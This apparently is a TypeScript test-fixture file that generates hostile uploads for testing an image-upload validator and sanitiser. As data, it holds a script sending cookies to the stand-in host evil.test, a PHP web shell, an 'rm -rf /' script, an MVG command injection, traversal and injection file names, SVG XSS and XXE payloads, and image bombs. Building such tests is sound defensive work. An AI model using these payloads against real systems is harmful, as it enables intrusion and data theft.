import { bmp, hollowPng, icon, photoWithExif, picture } from './pictures.ts';

/** Files that nobody sends by accident. `refused`: the expected answer. `harmless`: what must not remain of them. */
type HostileFile = { name: string; bytes: Buffer; fileName?: string; refused?: { status: number; message?: string }; harmless?: RegExp };

const SCRIPT = '<script>fetch("https://evil.test/"+document.cookie)</script>';
const invalid = { status: 400, message: 'Invalid image type' };
const unreadable = { status: 400 };

export async function hostileFiles(): Promise<HostileFile[]> {
  const [png, jpeg, gif, webp, tiff] = await Promise.all((['png', 'jpeg', 'gif', 'webp', 'tiff'] as const).map((format) => picture(format)));
  return [
    ...notPictures(),
    ...polyglots({ png: png!, jpeg: jpeg!, gif: gif!, webp: webp!, tiff: tiff! }),
    ...broken({ png: png!, jpeg: jpeg!, gif: gif!, webp: webp!, tiff: tiff! }),
    ...floods(),
    ...named(png!),
    ...svgs(),
    { name: 'photo with a position', bytes: await photoWithExif(), harmless: /SECRET-OWNER|Exif/ },
  ];
}

function notPictures(): HostileFile[] {
  const texts: Record<string, string> = {
    html: `<!doctype html>${SCRIPT}`,
    'html that speaks of svg': `<html><body><svg></svg>${SCRIPT}</body></html>`,
    'plain script': 'alert(1)',
    php: '<?php system($_GET["c"]); ?>',
    shell: '#!/bin/sh\nrm -rf /\n',
    pdf: '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj',
    zip: 'PK\u0003\u0004',
    elf: '\u007fELF',
    exe: 'MZ\u0090',
    postscript: '%!PS\n(x) run',
    'one letter': 'x',
    xml: '<?xml version="1.0"?><x/>',
    mvg: 'push graphic-context\nfill \'url(https://evil.test/x.jpg"|ls "-la)\'\npop graphic-context',
    'heic brand': '\0\0\0\u0018ftypheic',
    'avif brand': '\0\0\0\u001cftypavif',
  };
  return Object.entries(texts).map(([name, text]) => ({ name, bytes: Buffer.from(text, 'latin1'), refused: name.startsWith('html') ? unreadable : invalid }));
}

type Samples = Record<'png' | 'jpeg' | 'gif' | 'webp' | 'tiff', Buffer>;

function polyglots(samples: Samples): HostileFile[] {
  const tail = Buffer.from(SCRIPT);
  const behind = Object.entries(samples).map(([kind, bytes]) => ({
    name: `${kind} with a script behind it`,
    bytes: Buffer.concat([bytes, tail]),
    harmless: /script/,
  }));
  const inComment = Buffer.concat([samples.jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0, tail.length + 2]), tail, samples.jpeg.subarray(2)]);
  return [
    ...behind,
    { name: 'jpeg with a script in a comment', bytes: inComment, harmless: /script/ },
    { name: 'gif with a zip behind it', bytes: Buffer.concat([samples.gif, Buffer.from('PK\u0003\u0004payload')]), harmless: /PK\u0003\u0004/ },
    { name: 'png with php behind it', bytes: Buffer.concat([samples.png, Buffer.from('<?php evil();')]), harmless: /php/ },
    { name: 'gif that is a script', bytes: Buffer.from('GIF89a=1;alert(1)//'), refused: unreadable },
    { name: 'bmp that is a script', bytes: Buffer.from(`BM=1;alert(1)//${' '.repeat(60)}`), refused: unreadable },
    { name: 'jpeg magic and then html', bytes: Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), tail]), refused: unreadable },
    { name: 'png magic and then html', bytes: Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), tail]), refused: unreadable },
    { name: 'riff that is a sound', bytes: Buffer.concat([Buffer.from('RIFF\0\0\0\0WAVE', 'latin1'), tail]), refused: invalid },
    { name: 'icon holding a jpeg', bytes: icon(samples.jpeg), refused: unreadable },
    { name: 'icon holding html', bytes: icon(tail), refused: unreadable },
    { name: 'icon pointing outside', bytes: icon(samples.png).subarray(0, 60), refused: unreadable },
    { name: 'html before a png', bytes: Buffer.concat([tail, samples.png]), refused: invalid },
  ];
}

function broken(samples: Samples): HostileFile[] {
  const cut = Object.entries(samples).map(([kind, bytes]) => ({
    name: `${kind} cut in half`,
    bytes: bytes.subarray(0, Math.floor(bytes.length / 2)),
    refused: unreadable,
  }));
  return [
    ...cut,
    { name: 'bmp cut short', bytes: bmp({ cut: 60 }), refused: unreadable },
    { name: 'bmp of a compression', bytes: bmp({ compression: 1 }), refused: unreadable },
    { name: 'bmp wider than its bytes', bytes: bmp({ width: 5000 }), refused: unreadable },
    { name: 'bmp of no height', bytes: bmp({ height: 0 }), refused: unreadable },
    { name: 'bmp of negative width', bytes: bmp({ width: -2 }), refused: unreadable },
  ];
}

function floods(): HostileFile[] {
  return [
    { name: 'png of 60,000 × 60,000', bytes: hollowPng(60_000, 60_000), refused: unreadable },
    { name: 'png of 2,147,483,647 × 1', bytes: hollowPng(2_147_483_647, 1), refused: unreadable },
    { name: 'png of no size', bytes: hollowPng(0, 0), refused: unreadable },
    { name: 'png of 6,400 × 6,400', bytes: hollowPng(6400, 6400), refused: { status: 400, message: 'The picture is too large: at most 40 million pixels.' } },
    { name: 'bmp of 40,000 × 40,000', bytes: bmp({ width: 40_000, height: 40_000 }), refused: unreadable },
    { name: 'nine megabytes', bytes: Buffer.alloc(9 * 1024 * 1024, 0xff), refused: { status: 413 } },
    { name: 'nothing', bytes: Buffer.alloc(0), refused: unreadable },
  ];
}

function named(png: Buffer): HostileFile[] {
  const names = [
    '../../../etc/passwd',
    '..\\..\\evil.exe',
    '/etc/cron.d/evil',
    '%2e%2e%2fevil',
    'a.php',
    'a.png.html',
    '.htaccess',
    'CON',
    'a'.repeat(280),
    'ünïcode ✓.png',
    '-rf.png',
    'a;rm -rf ~.png',
    '<img src=x onerror=alert(1)>.png',
    '....//....//x',
    'x.svg',
  ];
  return names.map((fileName) => ({ name: `named ${fileName.slice(0, 40)}`, bytes: png, fileName }));
}

function svgs(): HostileFile[] {
  const drawing = (inside: string, attributes = 'width="10" height="10"') =>
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}<rect width="5" height="5"/></svg>`);
  const cleaned: Record<string, string> = {
    script: SCRIPT,
    'script by CDATA': '<script><![CDATA[alert(1)]]></script>',
    'script of another prefix': '<svg:script xmlns:svg="http://www.w3.org/2000/svg">alert(1)</svg:script>',
    'event attribute': '<rect width="1" height="1" onclick="alert(1)" onmouseover=\'alert(1)\'/>',
    'event attribute of plain words': '<rect width="1" height="1" onload="location=name" onfocus="name"/>',
    foreignObject: '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.test"/></body></foreignObject>',
    'image from outside': '<image href="https://evil.test/x.png" width="1" height="1"/>',
    'image by data': '<image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>',
    'use from outside': '<use href="https://evil.test/x.svg#a"/>',
    'use by data': '<use xlink:href="data:image/svg+xml,evil#a"/>',
    'javascript link': '<a href="javascript:alert(1)"><text>x</text></a>',
    'javascript link with an entity': '<a xlink:href="java&#115;cript:alert(1)"><text>x</text></a>',
    'style that imports': '<style>@import url(https://evil.test/x.css);</style>',
    'style from outside': '<style>rect{fill:url(https://evil.test/x)}</style>',
    'style with an escape': '<style>rect{background:u\\72l(https://evil.test)}</style>',
    'attribute from outside': '<rect width="1" height="1" fill="url(https://evil.test/#x)" style="background:url(//evil.test)"/>',
    'animated link': '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
    'set handler': '<set attributeName="onmouseover" to="alert(1)"/>',
    'filter image': '<filter id="f"><feImage href="https://evil.test/x.png"/></filter>',
    iframe: '<iframe src="https://evil.test"/>',
    handler: '<handler type="text/javascript">alert(1)</handler>',
    metadata: '<metadata><evil>alert(1)</evil></metadata>',
    'repetition of repetitions': `<g id="a0"><rect width="1" height="1"/></g>${Array.from({ length: 30 }, (_, at) => `<g id="a${at + 1}"><use href="#a${at}" class="alert"/><use href="#a${at}"/></g>`).join('')}`,
    'a comment that ends strangely': '<!-- --!><script>alert(1)</script> -->',
  };
  const refused: Record<string, Buffer> = {
    'entity bomb': Buffer.from('<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg width="1" height="1"><text>&b;</text></svg>'),
    'outer entity': Buffer.from('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg width="1" height="1"><text>&x;</text></svg>'),
    'parameter entity': Buffer.from('<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.test/x.dtd">%p;]><svg width="1" height="1"/>'),
    'tags that do not close': drawing('<g>'),
    'attribute without quotes': drawing('<rect onload=alert(1) />'),
    'doubled attribute': drawing('<rect width="1" width="2"/>'),
    'nul inside': drawing('\0<script>'),
    'utf-16': Buffer.from('\uFEFF<svg width="1" height="1"/>', 'utf16le'),
    'broken utf-8': Buffer.concat([drawing('').subarray(0, -6), Buffer.from([0xc3, 0x28]), Buffer.from('</svg>')]),
    'very deep': drawing('<g>'.repeat(5000) + '</g>'.repeat(5000)),
    'very many': drawing('<g/>'.repeat(30_000)),
    'two roots': Buffer.from('<svg width="1" height="1"/><svg width="1" height="1"/>'),
    'html around it': Buffer.from('<html><svg width="1" height="1"/></html>'),
    'no size': drawing('', ''),
    'size of nothing': drawing('', 'width="0" height="0"'),
  };
  return [
    ...Object.entries(cleaned).map(([name, inside]) => ({
      name: `svg: ${name}`,
      bytes: drawing(inside),
      harmless: /script|evil|alert|import|foreign|onclick|onmouse|onload|onfocus|data:|<set|animate|iframe/i,
    })),
    ...Object.entries(refused).map(([name, bytes]) => ({ name: `svg: ${name}`, bytes, refused: unreadable })),
  ];
}
